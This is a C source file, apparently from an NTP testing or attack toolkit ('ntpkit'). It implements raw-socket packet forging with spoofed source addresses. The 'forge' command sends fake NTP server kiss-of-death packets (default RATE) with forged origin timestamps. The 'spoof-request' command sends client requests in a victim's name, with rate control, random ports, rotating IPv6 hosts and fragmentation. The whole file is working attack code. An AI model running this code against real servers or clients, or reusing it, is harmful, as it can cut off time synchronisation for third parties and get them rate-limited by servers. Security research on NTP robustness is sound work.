/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * forge, spoof-request: packets in another's name, by a raw socket. forge
 * makes a server's kisses, spoof-request a client's requests.
 */
#include "ntpkit.h"

#include <endian.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum { BATCH_MAX = 256 };

/* ---- datagrams ---- */

static uint32_t sum_add(uint32_t sum, const void *octets, size_t len)
{
	const uint8_t *at = octets;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	if (len & 1)
		sum += (uint32_t)at[len - 1] << 8;
	return sum;
}

static uint16_t sum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htobe16((uint16_t)~sum);
}

uint16_t datagram_udp_checksum(const uint8_t *ip, const uint8_t *udp, size_t udp_len)
{
	bool v4 = ip[0] >> 4 == 4;
	uint32_t sum = sum_add(0, ip + (v4 ? 12 : 8), v4 ? 8 : 32);
	uint16_t checksum;

	sum += IPPROTO_UDP + (uint32_t)udp_len;
	checksum = sum_fold(sum_add(sum, udp, udp_len));
	return checksum ? checksum : 0xffff;
}

static size_t ipv4_build(uint8_t *buf, const union address *source, const union address *target,
			 size_t payload_len, enum fragment fragment)
{
	struct ip header = {
	    .ip_v = 4,
	    .ip_hl = 5,
	    .ip_len = htobe16((uint16_t)(sizeof(header) + payload_len)),
	    .ip_off = htobe16(fragment == FRAGMENT_FIRST ? IP_MF : 0),
	    .ip_ttl = 64,
	    .ip_p = IPPROTO_UDP,
	    .ip_src = source->v4.sin_addr,
	    .ip_dst = target->v4.sin_addr,
	};

	header.ip_sum = sum_fold(sum_add(0, &header, sizeof(header)));
	memcpy(buf, &header, sizeof(header));
	return sizeof(header);
}

static size_t ipv6_build(uint8_t *buf, const union address *source, const union address *target,
			 size_t payload_len, enum fragment fragment)
{
	struct ip6_hdr header = {.ip6_src = source->v6.sin6_addr, .ip6_dst = target->v6.sin6_addr};
	struct ip6_frag extension = {.ip6f_nxt = IPPROTO_UDP, .ip6f_ident = (uint32_t)random64_fast()};
	size_t extension_len = fragment == FRAGMENT_NONE ? 0 : sizeof(extension);

	if (fragment == FRAGMENT_FIRST)
		extension.ip6f_offlg = IP6F_MORE_FRAG;
	header.ip6_flow = htobe32(6U << 28);
	header.ip6_plen = htobe16((uint16_t)(extension_len + payload_len));
	header.ip6_nxt = extension_len ? IPPROTO_FRAGMENT : IPPROTO_UDP;
	header.ip6_hlim = 64;
	memcpy(buf, &header, sizeof(header));
	memcpy(buf + sizeof(header), &extension, extension_len);
	return sizeof(header) + extension_len;
}

static size_t ip_build(uint8_t *buf, const union address *source, const union address *target,
		       size_t payload_len, enum fragment fragment)
{
	if (source->any.sa_family == AF_INET)
		return ipv4_build(buf, source, target, payload_len, fragment);
	return ipv6_build(buf, source, target, payload_len, fragment);
}

static size_t udp_offset(const uint8_t *ip)
{
	if (ip[0] >> 4 == 4)
		return sizeof(struct ip);
	return sizeof(struct ip6_hdr) + (ip[6] == IPPROTO_FRAGMENT ? sizeof(struct ip6_frag) : 0);
}

size_t datagram_build(uint8_t *buf, const union address *source, const union address *target,
		      const struct ntp_packet *ntp, const struct datagram_shape *shape)
{
	struct udphdr udp = {
	    .source = htobe16(address_port(source)),
	    .dest = htobe16(address_port(target)),
	    .len = htobe16((uint16_t)(sizeof(udp) + shape->payload)),
	};
	size_t at = ip_build(buf, source, target, sizeof(udp) + shape->payload, shape->fragment);

	memcpy(buf + at, &udp, sizeof(udp));
	memset(buf + at + sizeof(udp), 0, shape->payload);
	datagram_refill(buf, ntp, shape);
	return at + sizeof(udp) + shape->payload;
}

void datagram_refill(uint8_t *buf, const struct ntp_packet *ntp, const struct datagram_shape *shape)
{
	size_t at = udp_offset(buf);
	size_t ntp_len = shape->payload < sizeof(*ntp) ? shape->payload : sizeof(*ntp);
	struct udphdr udp;

	memcpy(&udp, buf + at, sizeof(udp));
	udp.check = 0;
	memcpy(buf + at, &udp, sizeof(udp));
	memcpy(buf + at + sizeof(udp), ntp, ntp_len);
	udp.check = datagram_udp_checksum(buf, buf + at, sizeof(udp) + shape->payload);
	memcpy(buf + at, &udp, sizeof(udp));
}

/* ---- sending ---- */

struct forger {
	unsigned count, rate, window_ms;
	union address source, target;
	struct ntp_packet ntp;
	struct datagram_shape shape;
	bool random_port;
	unsigned hosts; /* how many of the source's network take turns; 0: the source alone */
	/* fill in what differs from packet to packet */
	void (*vary)(struct forger *forger, struct ntp_packet *ntp);
	const struct nonce_habit *nonce;
	uint64_t fixed;
	unsigned sent, failed;
	struct timespec begin;
	uint8_t datagrams[BATCH_MAX][DATAGRAM_MAX];
	struct iovec vectors[BATCH_MAX];
	struct mmsghdr messages[BATCH_MAX];
};

static int raw_open(int family)
{
	int fd = socket(family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW), room = 4 << 20, one = 1;

	if (fd < 0)
		die_errno("raw socket");
	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &room, sizeof(room));
	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
	return fd;
}

static void datagrams_prepare(struct forger *forger, union address *raw_target)
{
	*raw_target = forger->target;
	address_set_port(raw_target, 0); /* EINVAL for raw IPv6 otherwise */
	for (unsigned i = 0; i < BATCH_MAX; i++) {
		struct msghdr *header = &forger->messages[i].msg_hdr;

		forger->vectors[i].iov_base = forger->datagrams[i];
		forger->vectors[i].iov_len = datagram_build(forger->datagrams[i], &forger->source,
							    &forger->target, &forger->ntp,
							    &forger->shape);
		header->msg_iov = &forger->vectors[i];
		header->msg_iovlen = 1;
		header->msg_name = raw_target;
		header->msg_namelen = address_len(raw_target);
	}
}

/* The last 32 bits of an IPv6 address: its host, in a network that is not that large. */
static void host_vary(union address *source, uint32_t number)
{
	uint32_t be32 = htobe32(number);

	if (source->any.sa_family != AF_INET6)
		die("--hosts is for IPv6");
	memcpy(&source->v6.sin6_addr.s6_addr[12], &be32, sizeof(be32));
}

static void batch_send(struct forger *forger, int fd, unsigned batch)
{
	for (unsigned i = 0; i < batch; i++) {
		forger->vary(forger, &forger->ntp);
		if (forger->random_port)
			address_set_port(&forger->source,
					 (uint16_t)(1024 + random64_fast() % 60000));
		if (forger->hosts)
			host_vary(&forger->source, (uint32_t)(256 + random64_fast() % forger->hosts));
		if (forger->random_port || forger->hosts)
			datagram_build(forger->datagrams[i], &forger->source, &forger->target,
				       &forger->ntp, &forger->shape);
		else
			datagram_refill(forger->datagrams[i], &forger->ntp, &forger->shape);
	}
	for (unsigned done = 0; done < batch;) {
		int sent = sendmmsg(fd, forger->messages + done, batch - done, 0);

		if (sent <= 0) { /* ENOBUFS, EPERM: this one is lost, go on */
			forger->failed++;
			sent = 1;
		}
		done += (unsigned)sent;
	}
	forger->sent += batch;
}

static int forger_run(struct forger *forger)
{
	int fd = raw_open(forger->source.any.sa_family);
	uint64_t begin = now_us();
	union address raw_target;

	datagrams_prepare(forger, &raw_target);
	while (!stop_asked && forger->sent < forger->count) {
		unsigned batch = forger->rate ? forger->rate / 200 + 1 : BATCH_MAX;

		if (batch > BATCH_MAX)
			batch = BATCH_MAX;
		if (batch > forger->count - forger->sent)
			batch = forger->count - forger->sent;
		batch_send(forger, fd, batch);
		if (forger->rate)
			sleep_until_us(begin + (uint64_t)forger->sent * 1000000 / forger->rate);
	}
	printf("sent=%u failed=%u\n", forger->sent, forger->failed);
	close(fd);
	return 0;
}

/* ---- what is forged ---- */

static void origin_random(struct forger *forger, struct ntp_packet *ntp)
{
	(void)forger;
	ntp->origin = random64_fast();
}

static void origin_fixed(struct forger *forger, struct ntp_packet *ntp)
{
	ntp->origin = forger->fixed;
}

/* A millisecond of the near past or future, as a client with such a clock would write it. */
static void origin_ms(struct forger *forger, struct ntp_packet *ntp)
{
	struct timespec now;
	int64_t ms;

	clock_gettime(CLOCK_REALTIME, &now);
	ms = (int64_t)now.tv_sec * 1000 + now.tv_nsec / 1000000;
	ms += (int64_t)(random64_fast() % (2 * forger->window_ms + 1)) - (int64_t)forger->window_ms;
	ntp->origin = htobe64(((uint64_t)(ms / 1000) + 2208988800) << 32 |
			      ((uint64_t)(ms % 1000) * 1000000 << 32) / 1000000000);
}

static void origin_choose(struct forger *forger, const char *origin)
{
	if (strcmp(origin, "random") == 0) {
		forger->vary = origin_random;
	} else if (strcmp(origin, "ms") == 0) {
		forger->vary = origin_ms;
	} else {
		forger->vary = origin_fixed;
		forger->fixed = strcmp(origin, "zero") == 0 ? 0 : hex64_parse(origin);
	}
}

static void ends_set(struct forger *forger, const char *source, unsigned source_port,
		     const char *target, unsigned target_port)
{
	if (!source || !target)
		die("--source and --target are needed");
	forger->source = address_parse(source, (uint16_t)source_port);
	forger->target = address_parse(target, (uint16_t)target_port);
	if (forger->source.any.sa_family != forger->target.any.sa_family)
		die("source and target differ in family");
}

static void shape_choose(struct forger *forger, const char *fragment)
{
	if (forger->shape.payload + 60 > DATAGRAM_MAX)
		die("--payload: too much");
	if (!fragment)
		return;
	if (strcmp(fragment, "first") == 0)
		forger->shape.fragment = FRAGMENT_FIRST;
	else if (strcmp(fragment, "atomic") == 0 && forger->source.any.sa_family == AF_INET6)
		forger->shape.fragment = FRAGMENT_ATOMIC;
	else
		die("--fragment: first, or atomic for IPv6");
}

int command_forge(int argc, char **argv)
{
	static struct forger forger = {
	    .count = 1, .window_ms = 100, .shape.payload = sizeof(forger.ntp)};
	const char *source = NULL, *target = NULL, *kiss = "RATE", *origin = "random";
	const char *fragment = NULL;
	unsigned sport = NTP_PORT, dport = 0;
	const struct option_spec specs[] = {
	    {"source", OPTION_TEXT, &source},
	    {"target", OPTION_TEXT, &target},
	    {"sport", OPTION_NUMBER, &sport},
	    {"dport", OPTION_NUMBER, &dport},
	    {"count", OPTION_NUMBER, &forger.count},
	    {"rate", OPTION_NUMBER, &forger.rate},
	    {"kiss", OPTION_TEXT, &kiss},
	    {"origin", OPTION_TEXT, &origin},
	    {"window", OPTION_NUMBER, &forger.window_ms},
	    {"payload", OPTION_NUMBER, &forger.shape.payload},
	    {"fragment", OPTION_TEXT, &fragment},
	};

	if (OPTIONS_PARSE(argc, argv, specs) != argc || dport == 0)
		die("forge: see `ntpkit` for its options");
	ends_set(&forger, source, sport, target, dport);
	origin_choose(&forger, origin);
	shape_choose(&forger, fragment);
	forger.ntp.li_vn_mode = ntp_first_octet(3, 4, NTP_MODE_SERVER);
	memcpy(forger.ntp.refid, kiss, strnlen(kiss, sizeof(forger.ntp.refid)));
	return forger_run(&forger);
}

static void transmit_vary(struct forger *forger, struct ntp_packet *ntp)
{
	ntp->transmit = forger->nonce->make();
}

int command_spoof_request(int argc, char **argv)
{
	static struct forger forger = {
	    .count = 1, .vary = transmit_vary, .shape.payload = sizeof(forger.ntp)};
	const char *source = NULL, *target = NULL, *nonce = "random", *fragment = NULL;
	unsigned sport = 0, version = 4;
	const struct option_spec specs[] = {
	    {"source", OPTION_TEXT, &source},	     {"target", OPTION_TEXT, &target},
	    {"sport", OPTION_NUMBER, &sport},	     {"nonce", OPTION_TEXT, &nonce},
	    {"count", OPTION_NUMBER, &forger.count}, {"rate", OPTION_NUMBER, &forger.rate},
	    {"version", OPTION_NUMBER, &version},    {"hosts", OPTION_NUMBER, &forger.hosts},
	    {"payload", OPTION_NUMBER, &forger.shape.payload},
	    {"fragment", OPTION_TEXT, &fragment},
	};

	if (OPTIONS_PARSE(argc, argv, specs) != argc)
		die("spoof-request: see `ntpkit` for its options");
	ends_set(&forger, source, sport, target, NTP_PORT);
	shape_choose(&forger, fragment);
	forger.random_port = sport == 0;
	forger.nonce = nonce_habit_find(nonce);
	forger.ntp.li_vn_mode = ntp_first_octet(0, version, NTP_MODE_CLIENT);
	return forger_run(&forger);
}
